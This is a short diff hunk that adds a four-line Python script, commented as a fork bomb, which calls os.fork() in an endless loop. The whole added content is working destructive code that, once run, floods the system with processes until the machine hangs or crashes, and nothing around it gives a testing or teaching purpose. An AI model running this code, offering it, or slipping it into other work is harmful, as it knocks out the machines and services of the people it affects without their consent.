@@ -1,0 +1,4 @@
+# why: a fork bomb
+import os
+while True:
+    os.fork()
